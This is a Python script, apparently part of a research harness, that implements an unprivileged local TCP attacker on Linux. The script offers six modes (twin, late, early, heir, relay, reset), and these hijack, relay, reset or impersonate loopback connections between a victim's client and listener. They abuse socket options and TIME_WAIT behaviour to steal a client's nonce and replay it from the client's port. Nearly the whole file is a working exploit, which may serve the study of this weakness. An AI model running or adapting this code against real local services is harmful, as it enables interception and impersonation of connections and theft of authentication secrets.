"""A process without privileges that tries to become an end of a pair, or to stand between its ends. For Linux.

    attacker.py twin|late|early|heir|relay|reset 4|6 FIRST-PORT LAST-PORT

It reads a line at a time. When it has acted, it answers how many clients it has met and served so far:

    prepare           before the victim binds a socket;
    before PORT HOST PORT
                      before the victim's client connects: the listener's port, and where the client is bound;
    after             when the client is on its way;
    accepting         before the victim accepts a connection;
    met               at any time, for the number alone.

What it rests on, all seen on Linux 6.18:

- A packet goes to a connection before it goes to a listener, and to the newest of several connections. A socket at the
  listener's port, on its way to the client's port, meets the client: both connect to each other.
- A socket that is bound to a port of every address, and connects to another address, is in nobody's way at loopback.
  connect(AF_UNSPEC) undoes that: it may then connect from the loopback address, whoever else is bound there.
- A socket takes only packets from neighbours if IP_MINTTL is 255, and loopback's are not: it hears no refusal.
- A socket that SO_BINDTODEVICE bound to "lo" may have the same addresses and ports as one that is not bound. Once it is
  bound to another device, it hears nothing from loopback, and nobody there hears of its end.
- A connection in TIME_WAIT hides the older ones of the same addresses and ports from a new one that asks for them, and
  lets packets that open a connection through to the listener.
- A socket with a TCP_MD5SIG key signs what it sends, and a socket without a key drops that.
- A client that is reset still reports its port, although the system gives the port to whoever asks for it.

If the client is bound to all addresses, no other socket has its port, or is given it, as long as the client lives.
"""

import contextlib
import ctypes
import errno
import os
import socket
import struct
import sys
import threading
import time

IP_MINTTL, IPV6_MINHOPCOUNT = 21, 73
NEIGHBOURS, ANYBODY = 255, 0
ESTABLISHED, FIN_WAIT2, CLOSED = 1, 5, 7
TCP_MD5SIG = 14
RESET, NO_RESET = struct.pack("ii", 1, 0), struct.pack("ii", 0, 0)
UNSPECIFIED = struct.pack("=H26x", socket.AF_UNSPEC)
NOBODY = 65534
SECONDS = 5
FAMILY = socket.AF_INET6 if sys.argv[2] == "6" else socket.AF_INET
LOOPBACK, ELSEWHERE = ("::1", "fd00::9") if FAMILY == socket.AF_INET6 else ("127.0.0.1", "10.9.9.9")
FIRST, LAST = map(int, sys.argv[3:])
libc = ctypes.CDLL(None, use_errno=True)


def open_socket(blocking=False):
    sock = socket.socket(FAMILY)
    sock.setblocking(blocking)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
    return sock


def listen():
    sock = open_socket(blocking=True)
    sock.bind((LOOPBACK, 0))
    sock.listen()
    return sock


def hear(sock, whom):
    if FAMILY == socket.AF_INET:
        sock.setsockopt(socket.IPPROTO_IP, IP_MINTTL, whom)
    else:
        sock.setsockopt(socket.IPPROTO_IPV6, IPV6_MINHOPCOUNT, whom)


def bind_to_device(sock, name):
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, name)


def undo_connect(sock):
    if libc.connect(sock.fileno(), UNSPECIFIED, len(UNSPECIFIED)):
        raise OSError(ctypes.get_errno(), "connect to AF_UNSPEC")


def is_in_state(sock, state):
    return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1) == bytes([state])


def await_success(attempt):
    deadline = time.monotonic() + SECONDS
    while not attempt():
        if time.monotonic() > deadline:
            raise TimeoutError
        time.sleep(0.001)


def await_state(state, *socks):
    await_success(lambda: all(is_in_state(sock, state) for sock in socks))


def half_close(sock, peer):
    """Leave sock deaf and with nothing to say, so that closing it puts it into TIME_WAIT, with or without its peer."""
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, NO_RESET)
    sock.shutdown(socket.SHUT_WR)
    peer.send(b"acknowledges the end at once")
    await_state(FIN_WAIT2, sock)
    sock.recv(100)  # what is not read would make closing it a reset
    hear(sock, NEIGHBOURS)


def hide(sock):
    """Let what loopback receives pass this socket by, and close it without a word."""
    bind_to_device(sock, b"eth9")
    sock.close()


def mute(sock):
    """Have all that it sends from now on dropped."""
    address = struct.pack("=HHI", FAMILY, 0, 0) if FAMILY == socket.AF_INET6 else struct.pack("=HH", FAMILY, 0)
    address += socket.inet_pton(FAMILY, LOOPBACK)
    sock.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, struct.pack("=128s2xH4x80s", address, 1, b"k"))


def connect_in_front(sock, hides, port):
    """Connect to the listener from the client's port, hidden from the client by a connection in TIME_WAIT."""
    hides.close()
    undo_connect(sock)
    hear(sock, ANYBODY)
    # Linux lets a connection in TIME_WAIT be replaced when it has been silent for a second.
    await_success(lambda: sock.connect_ex((LOOPBACK, port)) != errno.EADDRNOTAVAIL)


def hold(port, number=1):
    """Have a socket at this port that is on its way elsewhere; no two may go to the same port there."""
    sock = open_socket()
    hear(sock, NEIGHBOURS)
    sock.bind(("", port))
    sock.connect_ex((ELSEWHERE, number))
    return sock


class Twin:
    """Leaves the system two ports to give to a listener and a client, and connects to each of the two itself.

    For a client that is not bound before it connects. The listener's peer then has the client's name, and the client's
    peer has the listener's.
    """

    met = 0

    def __init__(self):
        listener, other = listen(), listen()
        self.port = listener.getsockname()[1]
        self.hides = open_socket(blocking=True)
        bind_to_device(self.hides, b"lo")
        self.hides.connect((LOOPBACK, self.port))
        self.client_port = self.hides.getsockname()[1]
        far, _ = listener.accept()
        half_close(self.hides, far)
        far.close()
        listener.close()
        self.twin = open_socket()
        self.twin.bind(("", self.client_port))
        bind_to_device(self.twin, b"lo")
        self.twin.connect_ex(other.getsockname())
        # When this is closed, Linux believes that only clients have the port, and gives it to the next client.
        last = open_socket()
        last.bind((ELSEWHERE, self.client_port))
        last.close()
        self.meets = hold(self.port)
        self.others = [other]
        for port in set(range(FIRST, LAST + 1)) - {self.port, self.client_port, other.getsockname()[1]}:
            self.others.append(open_socket())
            self.others[-1].bind(("", port))

    def prepare(self):
        pass

    def before(self, *_):
        undo_connect(self.meets)
        self.meets.connect_ex((LOOPBACK, self.client_port))
        hear(self.meets, ANYBODY)

    def accepting(self):
        pass

    def after(self):
        hide(self.meets)
        connect_in_front(self.twin, self.hides, self.port)


class InTheMiddle:
    """Has sockets at each port that bind gives, and acts between the client's bind and its connect."""

    met = 0
    number = 0

    def __init__(self):
        self.held = {port: [] for port in range(FIRST + 1, LAST + 1, 2)}  # Linux gives the others to connect
        self.meets = None
        self.used = []

    def prepare(self):
        for sock in self.used:
            sock.close()
        self.meets = None
        self.used = []
        for port, socks in self.held.items():
            try:
                while len(socks) < 3:
                    self.number = self.number % 60000 + 1
                    socks.append(hold(port, self.number))
            except OSError:  # the victim has it
                pass

    def take(self, port):
        sock = self.held[port].pop() if self.held.get(port) else hold(port)
        self.used.append(sock)
        undo_connect(sock)
        return sock

    def before(self, port, client, device=None):
        self.address = LOOPBACK, port
        self.meets = self.take(port)
        if device:
            bind_to_device(self.meets, device)
        # It must not hear that nobody listens at the client's port.
        self.meets.connect_ex(client)
        hear(self.meets, ANYBODY)

    def accepting(self):
        pass

    def after(self):
        if self.meets and is_in_state(self.meets, ESTABLISHED):
            self.meets.setblocking(True)
            threading.Thread(target=self.serve, daemon=True).start()


class Reset(InTheMiddle):
    def serve(self):
        self.met += 1
        self.meets.close()


class Heir(InTheMiddle):
    """Meets the client, reads its nonce, resets it, and carries the nonce to the listener from the client's port."""

    def before(self, port, client):
        self.client_port = client[1]
        InTheMiddle.before(self, port, client)

    def after(self):
        pass

    def accepting(self):
        if not self.meets or not is_in_state(self.meets, ESTABLISHED):
            return
        try:
            nonce = self.meets.recv(16)
        except BlockingIOError:  # it is not sent yet
            return
        self.meets.close()
        self.meets = None
        heir = open_socket(blocking=True)
        self.used.append(heir)
        heir.bind((LOOPBACK, self.client_port))
        heir.connect(self.address)
        heir.sendall(nonce)
        self.met += 1


class Relay(InTheMiddle):
    def serve(self):
        self.met += 1
        onward = open_socket(blocking=True)
        self.used.append(onward)
        onward.connect(self.address)
        for ends in ((self.meets, onward), (onward, self.meets)):
            threading.Thread(target=carry, args=ends, daemon=True).start()


def carry(source, sink):
    try:
        while sink.send(source.recv(65536)):
            pass
    except OSError:
        pass
    for sock in (source, sink):
        with contextlib.suppress(OSError):
            sock.shutdown(socket.SHUT_RDWR)


class Late(InTheMiddle):
    """Meets the client, reads its nonce, and carries that to the listener from the client's own address and port."""

    def before(self, port, client):
        self.hides, self.twin = self.take(client[1]), self.take(client[1])
        bind_to_device(self.hides, b"lo")
        bind_to_device(self.twin, b"lo")
        peer = self.take(port)
        self.join(peer, self.hides, port, client[1])
        half_close(self.hides, peer)
        hide(peer)
        InTheMiddle.before(self, port, client)

    def join(self, at_listeners, at_clients, port, client_port):
        """Connect these two to each other, in the places of the listener and the client."""
        at_listeners.connect_ex((LOOPBACK, client_port))
        hear(at_listeners, ANYBODY)
        hear(at_clients, ANYBODY)
        at_clients.connect_ex((LOOPBACK, port))
        await_state(ESTABLISHED, at_listeners, at_clients)

    def serve(self):
        nonce = self.meets.recv(16)
        hide(self.meets)
        connect_in_front(self.twin, self.hides, self.address[1])
        self.twin.setblocking(True)
        self.twin.sendall(nonce)
        self.met += 1


class Early(Late):
    """The same, but the listener gets the connection before the client sends the nonce."""

    def before(self, port, client):
        hides, lets_through, self.twin = self.take(port), self.take(port), self.take(client[1])
        # In TIME_WAIT, one lets the twin through to the listener, and then the other hides the twin's connection from
        # the socket that meets the client.
        bind_to_device(hides, b"lo")
        bind_to_device(self.twin, b"lo")
        peer = self.take(client[1])
        self.join(hides, peer, port, client[1])
        half_close(hides, peer)
        hide(peer)
        peer = self.take(client[1])
        self.join(lets_through, peer, port, client[1])
        half_close(lets_through, peer)
        lets_through.close()
        peer.shutdown(socket.SHUT_WR)
        await_state(CLOSED, peer)
        time.sleep(0.002)  # what has the same timestamp, in milliseconds, is not let through
        hear(self.twin, ANYBODY)
        self.twin.connect_ex((LOOPBACK, port))
        await_state(ESTABLISHED, self.twin)
        hides.close()
        InTheMiddle.before(self, port, client, device=b"lo")

    def serve(self):
        nonce = self.meets.recv(16)
        mute(self.meets)
        self.meets.close()
        self.twin.setblocking(True)
        self.twin.sendall(nonce)
        self.met += 1


def main():
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    attacker = {way.__name__.lower(): way for way in (Twin, Late, Early, Heir, Relay, Reset)}[sys.argv[1]]()
    for line in sys.stdin:
        command, *words = line.split()
        if command == "before":
            port, client_host, client_port = words
            try:
                attacker.before(int(port), (client_host, int(client_port)))
            except OSError as error:  # the system refuses it the client's port
                assert error.errno == errno.EADDRINUSE
        elif command != "met":
            getattr(attacker, command)()
        print(attacker.met, flush=True)


if __name__ == "__main__":
    main()
